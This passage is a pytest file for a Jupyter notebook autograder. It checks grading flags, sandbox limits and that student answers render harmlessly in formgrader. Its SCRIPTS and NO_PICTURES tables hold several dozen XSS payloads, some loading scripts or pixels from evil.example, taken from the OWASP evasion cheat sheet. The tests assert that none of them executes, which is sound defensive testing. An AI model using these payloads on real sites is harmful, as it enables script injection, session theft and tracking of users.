    assert ("Whoever marks your answers sees them" in told) == (not in_place)


def test_a_correction_of_the_prose_flags_nobody_and_grades_nobody_again(
    other_course, solved, handed_out, tmp_path, monkeypatch
):
    """Not even who hands in what was handed out before it; but an answer that stands in the prose is seen as ever."""
    master = other_course / "two-tasks.md"
    answered = changed(solved(RIGHT), "in the text of the task")
    for student, notebook in {"anna": solved(RIGHT), "bert": answered, "cem": handed_out()}.items():
        hand_in(tmp_path / "in", student, notebook)

    def flags():
        return [row["flag"] for row in grade.grade(other_course, tmp_path / "in", LIMITS, say=lambda _: None)]

    wanted = ["", "needs marking, answer elsewhere", ""]
    assert flags() == wanted
    for old, new in ("# Two tasks\n", "# Two tasks\n\nTake your time.\n"), ("Take your", "Take all your"):
        master.write_text(master.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")
        release.release(other_course, LIMITS)
    with monkeypatch.context() as during:
        during.setattr(check, "run", None)
        assert flags() == wanted
    shutil.rmtree(other_course / "graded")
    assert flags() == wanted
    question = master.read_text(encoding="utf-8").replace("\nWhy?\n", "\nWhy so?\n")
    master.write_text(question, encoding="utf-8")
    release.release(other_course, LIMITS)
    assert flags() == wanted  # who left the old question as it was has not answered


def test_who_adds_nothing_is_not_flagged(overlooked):
    assert (overlooked["none of it"]["flag"], overlooked["none of it"]["reason"]) == ("", "")


HUGE = bytes.fromhex("89504e470d0a1a0a0000000d49484452") + (60_000).to_bytes(4, "big") * 2 + bytes.fromhex("0802000000")
NO_PICTURES = {
    "a drawing": ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='got=1'/>"),
    "a drawing that says it is a picture": ("image/png", b"<svg onload='got=1'/>"),
    "a page": ("text/html", b"<script>got=1</script>"),
    "a picture too large to be shown": ("image/png", HUGE + zlib.crc32(HUGE[12:]).to_bytes(4, "big")),
    "nothing": ("image/png", b""),
    "a kind that breaks out": ('image/png" onerror="got=1', picture()),
    "another kind than it says": ("image/jpeg", picture()),
}


@pytest.mark.parametrize("kind", NO_PICTURES)
def test_a_picture_that_may_do_harm_is_named_and_not_shown(course, solved, tmp_path, kind):
    notebook = solved(RIGHT)
    notebook.cells.append(own("", **attached(*NO_PICTURES[kind])))
    hand_in(tmp_path, "artist", notebook)
    row = next(row for row in grade.grade(course, tmp_path, LIMITS, say=lambda _: None) if row["student"] == "artist")
    assert row["flag"] == "needs marking, answer elsewhere" and row["reason"].endswith("pictures: 1")
    html = in_formgrader(course, nbformat.read(course / "autograded" / "artist" / "two-tasks" / "two-tasks.ipynb", 4))
    assert "open what was handed in" in html and "got=1" not in html and "<img" not in html


def test_more_words_and_pictures_than_anybody_marks_are_bounded(course, handed_out, solved):
    notebook = solved(RIGHT)
    notebook.cells += [own("a & " * 10_000, "raw") for _ in range(20)]
    read = notebooks.cells(nbformat.writes(notebook).encode())
    handed = tasks.Handed(
        masters.read(course / "two-tasks.md"),
        {},
        {},
        gradebook.sources(handed_out()),
        release.texts(course, "two-tasks"),
    )
    others = tasks.elsewhere(handed, read, check.Run())
    assert sum(len(other["text"]) for other in others) == tasks.KEPT + len(tasks.CUT) and len(others) == 3
    notebook.cells += [own("", attachments={str(i): {"image/png": "AAAA"} for i in range(notebooks.MOST_PICTURES + 1)})]
    with pytest.raises(files.Refused, match="it has 201 pictures, and 200 are the most"):
        notebooks.cells(nbformat.writes(notebook).encode())


def test_a_mark_is_to_be_looked_at_again_when_something_is_added_elsewhere(course, solved, tmp_path):
    def row(*added):
        notebook = solved(RIGHT)
        why_of(notebook).source = "Because."
        notebook.cells += added
        hand_in(tmp_path, "adds to it", notebook)
        rows = grade.grade(course, tmp_path, LIMITS, say=lambda _: None)
        return next(row for row in rows if row["student"] == "adds to it")

    row()
    marked(course, "adds to it", 0.5)
    assert (row()["flag"], row()["total"]) == ("", "5.5")
    assert row(own("And more."))["flag"] == "needs marking, answer elsewhere"
    marked(course, "adds to it", 1)
    assert (row(own("And more."))["flag"], row(own("And more."))["total"]) == ("", "6")
    assert row(own("print(1)", "code"), own("And more."))["flag"] == ""  # code is no answer
    assert row(own("And more."), own("", **attached("image/png", picture())))["flag"] != ""


def test_what_is_stopped_by_a_limit_is_flagged_and_told(lot, course):
    rows = {row["student"]: row for row in lot["rows"]}
    for student in "infinite loop", "infinite loop in the function":
        assert (rows[student]["flag"], rows[student]["reason"]) == ("timeout", "stopped by the time limit: double")
    with open(course / "grades.csv", encoding="utf-8-sig", newline="") as file:
        wide = {row["student"]: row["flag"] for row in csv.DictReader(file)}
    assert wide["infinite loop"] == "two-tasks: timeout" and wide["honest and wrong"] == ""
    assert grades.final(rows["infinite loop"]) and not grades.final(rows["honest with lists"])


def test_what_was_put_back_or_left_out_is_told_to_the_lecturer(course, solved, tmp_path):
    notebook = solved(RIGHT)
    cells(notebook)["setup"].source += "\nimport math"
    notebook.cells += [
        own("a = 1\nprint(a)", "code"),
        own("import os; os._exit(0)", "code"),
        own("import math", "code"),
    ]
    hand_in(tmp_path, "tries things", notebook)
    rows = grade.grade(course, tmp_path, LIMITS, say=lambda _: None)
    row = next(row for row in rows if row["student"] == "tries things")
    assert row["reason"] == "put back as handed out: setup; own cells run in part: 2"
    page = (course / "feedback" / "tries things" / "two-tasks" / "two-tasks.html").read_text(encoding="utf-8")
    assert "definitions were run: a = 1; import os; os._exit(0)." in page


# The page for the lecturer


def test_statistics_say_what_failed_for_how_many_and_no_name(lot, course):
    html = (course / "statistics.html").read_text(encoding="utf-8")
    page = BeautifulSoup(html, "html.parser")
    assert not page.find_all(["script", "img", "link", "iframe", "a"]) and len(html) < 30_000
    assert not any(student in page.get_text() for student in lot["scores"] if len(student) > 12)
    results = [result for result in kept.results(course, print) if not result["reason"]]
    failed = [result for result in results if (task := result["tasks"][0])["points"] < 2 and task["why"] != "not_begun"]
    table = page.find("h3", string="Task 1. Twice as much").find_next("table")
    lines = {row.th.get_text(): int(row.td.get_text()) for row in table.tbody.find_all("tr")}
    assert lines["twice an array"] == sum("twice an array" in result["tasks"][0]["wrong"] for result in failed)
    assert len(page.select("figure svg[role=img][aria-label]")) == 2
    assert "Bars: students against points, rounded down." in page.svg["aria-label"]
    assert "Your cell did not run to its end: SyntaxError." in page.get_text()


def test_statistics_can_be_read_by_everyone(lot, course, chromium):
    page = chromium.new_page()
    for scheme in "light", "dark":
        page.emulate_media(color_scheme=scheme)
        page.goto((course / "statistics.html").as_uri())
        found = Axe().run(page)
        assert not found.response["violations"], found.generate_report()
    page.close()


# The kinds of https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html and of what Markdown,
# MathJax and notebooks add to them; each would set `got` or go elsewhere.
SCRIPTS = {
    "a script": "<script>got = 1</script>",
    "a script, unclosed": "<SCRIPT SRC=//evil.example/x.js?< B >",
    "a script in a broken tag": '<IMG """><SCRIPT>got = 1</SCRIPT>"\\>',
    "an image that is not there": "<img src=x onerror=got=1>",
    "an event with slashes": "<img/src=x/onerror=got=1>",
    "an event of a body": "<body onload=got=1>",
    "an event of the mouse": "<b onmouseover=got=1>here</b>",
    "details": "<details open ontoggle=got=1>",
    "a drawing": "<svg onload=got=1></svg>",
    "a script in a drawing": "<svg><script>got=1</script></svg>",
    "an animated address": "<svg><a><animate attributeName=href values=javascript:got=1 /><text>x</text></a></svg>",
    "a frame": "<iframe srcdoc='<script>parent.got=1</script>'></iframe>",
    "an object": "<object data='data:text/html,<script>got=1</script>'></object>",
    "a style": "<style>@import '//evil.example/x.css';</style>",
    "a base": "<base href='//evil.example/'>",
    "a meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "a form": "<form action=javascript:got=1><button>go</button></form>",
    "MathML": "<math><maction actiontype=statusline xlink:href=javascript:got=1>x</maction></math>",
    "a comment": "<!--><img src=x onerror=got=1>-->",
    "half a tag": "<img src=x onerror=got=1//",
    "entities": "&lt;img src=x onerror=got=1&gt; &#60;script&#62;got=1&#60;/script&#62;",
    "a link": "[my derivation](javascript:got=1)",
    "a link in capitals": "[x](JaVaScRiPt:got=1)",
    "a link with entities": "[x](&#106;avascript:got=1) [y](java&Tab;script:got=1)",
    "a link with a space": "[x](<java\tscript:got=1>)",
    "a link of data": "[x](data:text/html;base64,PHNjcmlwdD5nb3Q9MTwvc2NyaXB0Pg==)",
    "a link to VBScript": "[x](vbscript:got=1)",
    "a reference": "[x][1]\n\n[1]: javascript:got=1",
    "a reference with a title": "[x][a b]\n\n  [a b]: javascript:got=1 'title'",
    "an autolink": "<javascript:got=1> <https://evil.example>",
    "a bare address": "https://evil.example/pixel www.evil.example me@evil.example",
    "an image": "![x](https://evil.example/pixel.png)",
    "an image by reference": "![x][i]\n\n[i]: https://evil.example/pixel.png",
    "an image with an event": '![x](x"onerror="got=1)',
    "an attachment": "![x](attachment:x.svg)",
    "a title that ends early": "[x](y '\"onmouseover=got=1 a=\"')",
    "an escaped bracket": "\\[x](javascript:got=1) \\<img src=x onerror=got=1>",
    "a quoted block": "> <img src=x onerror=got=1>\n\n- <script>got=1</script>",
    "a fence": "```html\n<script>got=1</script>\n```\n~~~\n<img src=x onerror=got=1>",
    "inline code": "`` ` `` <img src=x onerror=got=1> `",
    "a table": "|a|b|\n|-|-|\n|<img src=x onerror=got=1>|[x](javascript:got=1)|",
    "HTML in a formula": "$<img src=x onerror=got=1>$ and $$</span><script>got=1</script>$$",
    "HTML in an environment": "\\begin{align}<img src=x onerror=got=1>\\end{align}",
    "a link in a formula": "$\\href{javascript:got=1}{x}$ $\\mmlToken{mi}[href='javascript:got=1']{x}$",
    "a style in a formula": "$\\style{background:url(//evil.example)}{x} \\require{html} \\cssId{a}{b} \\class{c}{d}$",
    "HTML across lines": "<img\nsrc=x\n\nonerror=got=1>",
    "a heading": "# <img src=x onerror=got=1>\nx\n===",
    "a template": "{{ constructor.constructor('got=1')() }} {% raw %} ${got=1}",
    "odd spaces": "<img\u000csrc=x\u00a0onerror=got=1>\u2028<script>got=1</script>",
}


@pytest.fixture(scope="session")
def marking(course):
    """What formgrader shows of each, as the browser gets it."""

    @cache
    def show(answer):
        notebook = gradebook.shown(
            course,
            {"assignment": "two-tasks", "key": "", "sources": {"why": answer, "double": answer, "halve": answer}},
            masters.read(course / "two-tasks.md"),
        )
        return in_formgrader(course, notebook)

    return show


@pytest.mark.parametrize("kind", SCRIPTS)
def test_an_answer_is_text_in_formgrader(marking, kind):
    page, untouched = (BeautifulSoup(marking(text), "html.parser") for text in (SCRIPTS[kind], "nothing"))
    (answer,) = [each for each in page.select(".text_cell_render") if "Why" not in each.get_text()][-1:]
    assert {tag.name for tag in answer.find_all(True)} <= {"p", "br", "b"}
    assert not any(tag.attrs for tag in answer.find_all(True))
    assert "".join(answer.get_text().split()) == "".join(SCRIPTS[kind].split())
    for name in "script", "a", "img", "iframe", "object", "style", "link", "meta", "base", "form", "svg", "math":
        assert len(page.find_all(name)) == len(untouched.find_all(name)), name


def test_no_script_runs_in_a_real_browser(marking, chromium):
    """All of them one after the other: nothing runs, nothing is asked of anyone, and no click leads away."""
    page = chromium.new_page()
    asked = []
    page.route("**/*", lambda route: (asked.append(route.request.url), route.abort()))
    for kind, answer in SCRIPTS.items():
        page.set_content(marking(answer), wait_until="domcontentloaded")
        for cell in page.query_selector_all(".text_cell_render"):
            cell.hover()
            cell.click()
        assert page.evaluate("window.got") is None, kind
        assert not [url for url in asked if "evil" in url or url.startswith(("data", "javascript"))], kind
        assert page.evaluate("document.querySelectorAll('.text_cell_render a:not(.anchor-link)').length") == 0, kind
    page.close()


@pytest.mark.parametrize("formula", [r"$\alpha < b$", r"$$x_1^* \& y_{2}$$", r"\(a_b > c\)", "$a\n= b$"])
def test_mathematics_still_shows(marking, formula):
    html = marking(f"So {formula} holds.")
    assert ",Safe" in html[html.index("MathJax.js" if "MathJax.js" in html else "mathjax/") :][:200]
    (answer,) = [
        each for each in BeautifulSoup(html, "html.parser").select(".text_cell_render") if "holds" in each.get_text()
    ]
    assert answer.get_text().split() == f"So {formula} holds.".split()  # one text: MathJax finds the signs


@pytest.fixture
def formgrader(other_course, tmp_path):
    """Formgrader as a lecturer starts it: its address, and that of the course."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
    command = [
        sys.executable,
        "-m",
        "jupyter_server",
        f"--port={port}",
        "--port-retries=0",
        "--no-browser",
        "--allow-root",
    ]
    environment = {**os.environ, "JUPYTER_CONFIG_DIR": str(tmp_path), "JUPYTER_RUNTIME_DIR": str(tmp_path)}
    with open(tmp_path / "log", "w", encoding="utf-8") as log:
        process = subprocess.Popen(
            [*command, "--IdentityProvider.token="], cwd=other_course, env=environment, stdout=log, stderr=log
        )
    try:
        for _ in range(600):
            with suppress(OSError):
                socket.create_connection(("127.0.0.1", port)).close()
                break
            assert process.poll() is None, (tmp_path / "log").read_text(encoding="utf-8")
            time.sleep(0.1)
        yield f"http://127.0.0.1:{port}/formgrader", other_course
    finally:
        process.terminate()
        process.wait()


@pytest.mark.slow
def test_formgrader_itself_shows_formulas_without_a_network_and_runs_no_script(formgrader, solved, tmp_path, chromium):
    """All answers of SCRIPTS in one notebook, each in a cell of its own, and in its place an answer with formulas."""
    address, course = formgrader
    notebook = solved(RIGHT)
    why_of(notebook).source = r"So $\alpha < b$ and $$x_1^* = y_{2}$$ hold."
    notebook.cells += [own(text) for text in SCRIPTS.values()]
    hand_in(tmp_path / "in", "anna", notebook)
    grade.grade(course, tmp_path / "in", LIMITS, say=lambda _: None)
    page = chromium.new_page()
    asked, missing = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("response", lambda response: missing.append(response.url) if response.status >= 400 else None)
    page.route(lambda url: not url.startswith(address[:16]), lambda route: route.abort())
    page.goto(f"{address}/gradebook/two-tasks/two-tasks")
    page.get_by_role("link", name="Submission #1").click()
    cell = page.locator(".text_cell_render", has_text="hold.")
    cell.locator(".MathJax_Display .math").wait_for()
    assert cell.locator(".MathJax .math").count() == 2 and "alpha" not in cell.inner_text() and not missing
    shown = page.locator(".text_cell_render", has_text="Handed in here")
    assert shown.count() == len(SCRIPTS)
    for each in shown.all():
        each.hover()
        each.click()
    assert page.evaluate("window.got") is None and page.locator(".text_cell_render a:not(.anchor-link)").count() == 0
    beyond = {url for url in asked if not url.startswith((address[:16], "data:font", "data:image/png"))}
    assert not any("evil" in url or "athjax" in url.lower() for url in beyond), beyond
    page.close()


# Where it cannot run


def test_without_bubblewrap_it_refuses(course, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    for refuses in (lambda: grade.grade(course, tmp_path, LIMITS), lambda: release.release(course, LIMITS)):
        with pytest.raises(sandbox.Unusable, match="apt install bubblewrap"):
            refuses()


def test_with_a_bubblewrap_that_cannot_it_refuses(course, tmp_path, monkeypatch):
    (tmp_path / "bwrap").write_text(
        "#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n", encoding="utf-8"
    )
    (tmp_path / "bwrap").chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
    with pytest.raises(sandbox.Unusable, match="0.8 or newer.*No permissions to create new namespace"):
        release.release(course, LIMITS)


@pytest.mark.parametrize("arguments", [[], ["no/such/folder"]])
def test_nothing_to_grade(arguments):
    with pytest.raises(SystemExit, match="make grade SUBMISSIONS="):
        grade.main(arguments)


# Masters


@pytest.mark.parametrize(
    "old, new, words",
    [
        ("return factor * x", "return factor * y", "cell halve-check: half a number: NameError"),
        ("import numpy as np", "import numpy as nq", "cell double-try: NameError"),
        ('"the array is left as it was"', '"twice an array"', "never twice under one label"),
        ("points: 3", "points: 0", "halve-check: it is graded and has no points"),
        ("grade_id: halve,", "grade_id: double,", "double: 2 cells have this grade_id"),
        ("lambda: halve(7.75)", "lambda: halve", "not a number"),
    ],
)
def test_a_broken_master_is_not_handed_out(course, tmp_path, old, new, words):
    assert MASTER.count(old) == 1
    (tmp_path / "two-tasks.md").write_text(MASTER.replace(old, new), encoding="utf-8")
    shutil.copy(course / "nbgrader_config.py", tmp_path)
    with pytest.raises(masters.Broken, match=f"two-tasks.md, .*{words}"):
        release.release(tmp_path, LIMITS)
    assert not (tmp_path / "release").exists()


@pytest.mark.parametrize(
    "value, wanted, right",
    [
        (1.0, 1, True),
        (1 + 1e-10, 1.0, True),
        (1 + 1e-8, 1.0, False),
        (1e-17, 0.0, True),
        (1e-9, 0.0, False),
        (True, 1.0, False),
        (1, True, False),
        (True, True, True),
        ("1", 1, False),
        (None, 0, False),
        ([1, 2], [1, 2], True),
        ([1], [1, 2], False),
        (1, [1], False),
        ([1], 1, False),
        ({"a": 1}, {"a": 1}, True),
        ({"b": 1}, {"a": 1}, False),
        (float("nan"), float("nan"), True),
        (float("nan"), 1.0, False),
        (float("inf"), float("inf"), True),
        (-float("inf"), float("inf"), False),
        (10**400, 1.0, False),
        (10**400, 10**400, True),
    ],
)
def test_what_counts_as_the_same(value, wanted, right):
    assert check.same(value, wanted, 1e-9) == right


def test_an_error_in_a_check_is_told_by_one_of_ten_names():
    """A student who may choose any class name could spell out the check in it."""
    names = {check.kind_of([name, "secret"]) for name in [*vars(builtins), "SecretIs345", "A" * 60, "", 5]}
    assert len(names) == 11 and "an error" in names and "NameError" in names
    assert {check.kind_of(odd) for odd in (None, [], "NameError", {}, [["NameError"]])} == {"an error"}


def test_the_time_of_a_whole_submission_is_bounded(course, solved, tmp_path):
    """However many cells do not end; and what was used up is told, not called a failure of ours."""
    notebook = solved("while True: pass")
    cells(notebook)["halve"].source = "while True: pass"
    hand_in(tmp_path, "slow", notebook)
    limits = sandbox.Limits(cell=1, submission=1.5)
    rows = grade.grade(course, tmp_path, limits, say=lambda _: None)
    row = next(row for row in rows if row["student"] == "slow")
    assert (row["auto points"], row["flag"]) == ("0", "timeout")
    stopped, _, _ = row["reason"].partition(";")  # a busy machine may have no time left for cells of one's own
    assert stopped == "stopped by the time limit: double, halve"
    assert "the whole notebook was used up" in (
        course / "feedback" / "slow" / "two-tasks" / "two-tasks.html"
    ).read_text(encoding="utf-8")


# The assignments of the book


@pytest.fixture(scope="session")
def real(tmp_path_factory):
    """The real masters, handed out into a folder of their own."""
    if not list((ROOT / "assignments").glob("*.md")):
        pytest.skip("THE ASSIGNMENTS ARE NOT TESTED: this is a copy of the book without them")
    folder = tmp_path_factory.mktemp("real")
    for file in [*(ROOT / "assignments").glob("*.md"), ROOT / "assignments" / "nbgrader_config.py"]:
        shutil.copy(file, folder)
    release.release(folder)
    return folder


def test_students_get_no_solution_no_check_and_no_optimiser(real):
    for name in masters.read_all(real):
        folder = real / "release" / name
        files = [file for file in folder.rglob("*") if file.is_file()]
        assert {file.suffix for file in files} <= {".ipynb", ".py", ".gz", ".md", ".txt", ".whl"}
        text = "\n".join(file.read_text(encoding="utf-8") for file in files if file.suffix not in (".gz", ".whl"))
        for secret in (
            "BEGIN SOLUTION",
            "END SOLUTION",
            "HIDDEN",
            "reveal(",
            "from optimlib import adam",
            "def descend",
            "__pycache__",
        ):
            assert secret not in text, (name, secret)
        end = subprocess.run(
            [
                sys.executable,
                "-I",
                "-c",
                "import sys; sys.path.insert(0, '.'); import optimlib, optimlib.plots,"
                " optimlib.digits; optimlib.digits.load(); print(*dir(optimlib))",
            ],
            cwd=folder,
            capture_output=True,
            text=True,
            encoding="utf-8",
        )
        assert end.returncode == 0, end.stderr
        names = set(end.stdout.split())
        assert "bowl" in names and not {*rules.RULES, *rules.AVERAGES, "descend", "smooth", "network"} & names
        shutil.rmtree(folder / "optimlib" / "__pycache__")


def test_the_reference_gets_full_marks_and_the_untouched_release_none(real, tmp_path):
    for name in masters.read_all(real):
        hand_in(
            tmp_path,
            "reference",
            (real / "source" / name / f"{name}.ipynb").read_text(encoding="utf-8"),
            f"{name}.ipynb",
        )
        hand_in(
            tmp_path,
            "untouched",
            (real / "release" / name / f"{name}.ipynb").read_text(encoding="utf-8"),
            f"{name}.ipynb",
        )
    rows = grade.grade(real, tmp_path, say=lambda _: None)
    assert len(rows) == 2 * len(masters.read_all(real))
    for row in rows:
        master = masters.read(real / f"{row['assignment']}.md")
        full = sum(cell.points for cell in master.of("check"))
        reference = row["student"] == "reference"
        assert row["auto points"] == (f"{full:g}" if reference else "0"), row
        assert row["out of"] == f"{master.points:g}" and row["flag"] == ("needs marking" if reference else "")
